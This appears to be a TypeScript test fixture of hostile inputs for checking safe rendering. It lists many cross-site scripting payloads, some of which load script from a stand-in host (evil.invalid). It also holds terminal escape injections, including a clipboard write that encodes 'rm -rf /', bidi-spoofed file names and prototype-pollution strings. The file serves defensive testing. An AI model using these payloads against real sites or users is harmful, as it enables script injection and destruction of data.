/** What a page would run if it took any of these texts for anything but text. */
const deed = 'window.__xss=1';

/** Markup, links and templates, on one line each and without control characters: everywhere shown to the letter. */
export const hostileMarkup: readonly string[] = [
  `<script>${deed}</script>`,
  `<ScRiPt data-xss>${deed}</sCrIpT>`,
  `<script src="data:text/javascript,${deed}"></script>`,
  `<script src="//evil.invalid/x.js"></script>`,
  `"><script>${deed}</script>`,
  `</title><script>${deed}</script>`,
  `</textarea><script>${deed}</script>`,
  `</script><script>${deed}</script>`,
  `<!--<script>${deed}//--></script>`,
  `<img data-xss src=x onerror="${deed}">`,
  `<img data-xss src=x onerror=${deed}//`,
  `"><img data-xss src=x onerror=${deed}>`,
  `'"><img data-xss src=x onerror='${deed}'>`,
  `<svg data-xss onload="${deed}">`,
  `<svg data-xss><script>${deed}</script></svg>`,
  `<svg data-xss><animate onbegin="${deed}" attributeName=x dur=1s></svg>`,
  `<svg><a data-xss xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
  `<math data-xss><mtext><img src=x onerror="${deed}"></mtext></math>`,
  `<body data-xss onload="${deed}">`,
  `<iframe data-xss src="javascript:parent.${deed}"></iframe>`,
  `<iframe data-xss srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<object data-xss data="javascript:${deed}"></object>`,
  `<embed data-xss src="javascript:${deed}">`,
  `<a data-xss href="javascript:${deed}">click</a>`,
  `<a data-xss href=" &#106;avascript:${deed}">click</a>`,
  `<form data-xss action="javascript:${deed}"><button autofocus>go</button></form>`,
  `<input data-xss autofocus onfocus="${deed}">`,
  `<details data-xss open ontoggle="${deed}">x</details>`,
  `<video data-xss><source onerror="${deed}"></video>`,
  `<marquee data-xss onstart="${deed}">x</marquee>`,
  `<style data-xss>*{background:url("javascript:${deed}")}</style>`,
  `<link data-xss rel=stylesheet href="data:text/css,*{display:none}">`,
  `<meta data-xss http-equiv=refresh content="0;url=javascript:${deed}">`,
  `<base data-xss href="//evil.invalid/">`,
  `<template data-xss><script>${deed}</script></template>`,
  `&lt;img src=x onerror=${deed}&gt;`,
  `&#60;script&#62;${deed}&#60;/script&#62;`,
  `javascript:${deed}`,
  `[click](javascript:${deed})`,
  `data:text/html,<script>${deed}</script>`,
  `{{constructor.constructor('${deed}')()}}`,
  `\${${deed}}`,
  `{@html '<img src=x onerror=${deed}>'}`,
  `<%= ${deed} %>`,
  `'-(${deed})-'`,
  `\\u003cimg src=x onerror=${deed}\\u003e`,
  `__proto__`,
  `%3Cscript%3E${deed}%3C/script%3E`,
];

/** Texts that are more than they seem to be in a terminal, and what a log may show of them. */
export const hostileOutput: readonly { readonly written: string; readonly shown: string }[] = [
  { written: `\u001b]8;;javascript:${deed}\u001b\\osc8-javascript\u001b]8;;\u001b\\`, shown: 'osc8-javascript' },
  { written: `\u001b]8;;data:text/html,<script>${deed}</script>\u0007osc8-data\u001b]8;;\u0007`, shown: 'osc8-data' },
  { written: `\u001b]8;;https://evil.invalid/"onclick="${deed}\u0007osc8-quote\u001b]8;;\u0007`, shown: 'osc8-quote' },
  { written: `\u001b]0;<img src=x onerror=${deed}>\u0007window-title`, shown: 'window-title' },
  { written: `\u001b]52;c;cm0gLXJmIC8=\u0007clipboard`, shown: 'clipboard' },
  {
    written: `\u001b[31m<img data-xss src=x onerror=${deed}>\u001b[0m red`,
    shown: `<img data-xss src=x onerror=${deed}> red`,
  },
  { written: `\u001b[38;2;1;2;3;"onmouseover="${deed}"m coloured`, shown: 'm coloured' },
  { written: `<im\u001b[1mg data-xss src=x onerror=${deed}>split`, shown: `<img data-xss src=x onerror=${deed}>split` },
  { written: `\u001b[2J\u001b[Hcleared`, shown: 'cleared' },
  { written: `access\u202Egpj.exe`, shown: 'access⟦U+202E⟧gpj.exe' },
  { written: `\u2066isolated\u2069`, shown: '⟦U+2066⟧isolated⟦U+2069⟧' },
  { written: `bell\u0007 and back\u0008space`, shown: 'bell␇ and back␈space' },
];

/** Bidirectional marks, marks on marks and a word without an end: shown as it is, it must not push the page apart. */
export const hostileShapes: readonly string[] = [
  `a\u202Egnp.txt`,
  `\u2067right\u2069`,
  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a`,
  `${'w'.repeat(190)}`,
  '工单审批'.repeat(20),
];

/** What a host may be called, and is more than a name to some programs. All other texts are refused as words for hosts. */
export const hostileHosts: readonly string[] = [
  ...['constructor', 'toString', 'hasOwnProperty', 'javascript.alert', '10.0.0.300', 'w'.repeat(190)],
];
